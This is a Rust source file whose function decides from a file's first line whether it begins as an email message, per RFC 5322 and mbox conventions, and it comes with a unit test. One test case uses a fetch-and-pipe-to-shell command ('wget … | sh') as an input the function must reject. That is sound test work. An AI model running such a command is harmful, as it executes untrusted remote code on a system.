//! Whether a file is a message or something that may be attached to one, told by its first line.
//!
//! For people who name files to us; what comes by LMTP is a message whatever it looks like. Standards: RFC 5322 §2.2,
//! RFC 4155 (`From ` lines), RFC 5545 and RFC 6350 (`BEGIN:` is no header field).

/// True where the first line is a header field, a `From ` line, or empty.
pub fn begins_as_message(bytes: &[u8]) -> bool {
    let line = bytes.split(|byte| *byte == b'\n').next().unwrap_or_default().trim_ascii_end();
    if line.is_empty() || line.starts_with(b"From ") {
        return !bytes.is_empty();
    }
    let name = line.split(|byte| *byte == b':').next().unwrap_or_default();
    // A space may stand before the colon, but not within the name: `curl http://…` is a command.
    let field = name.trim_ascii_end();
    let is_name = field.iter().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_'));
    is_name && !field.is_empty() && name.len() < line.len() && !name.eq_ignore_ascii_case(b"BEGIN")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_first_line_tells() {
        for (text, want) in [
            (&b"Subject: x\r\n\r\ny"[..], true),
            (b"From a@b Sun Mar  1\nSubject: x\n", true),
            (b"\r\nbody only\r\n", true),
            (b"X-Odd : y\n", true),
            (b"wget http://a.example/x -O- | sh\n", false),
            (b"", false),
            (b"PK\x03\x04", false),
            (b"MZ\x90\0:", false),
            (b"#!/bin/sh\n", false),
            (b"<html>\n", false),
            (b"BEGIN:VCARD\r\n", false),
            (b"a text without a header\n", false),
        ] {
            assert_eq!(begins_as_message(text), want, "{}", String::from_utf8_lossy(text));
        }
    }
}
